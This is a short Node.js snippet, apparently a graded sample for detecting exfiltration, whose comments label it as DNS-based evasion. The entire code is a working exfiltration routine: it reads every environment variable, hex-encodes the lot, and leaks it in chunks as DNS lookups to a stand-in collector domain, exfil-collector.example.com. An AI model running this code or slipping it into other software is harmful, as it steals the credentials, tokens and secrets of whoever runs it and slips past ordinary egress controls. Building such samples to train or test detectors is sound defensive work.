// evasion: environment exfiltrated as hex labels of DNS lookups
// grade: medium; does: exfil
const dns = require('dns');
const data = Buffer.from(JSON.stringify(process.env)).toString('hex');
const chunks = data.match(/.{1,60}/g) || [];
chunks.forEach((c, i) => {
  dns.resolve4(`${i}.${c}.t.exfil-collector.example.com`, () => {});
});
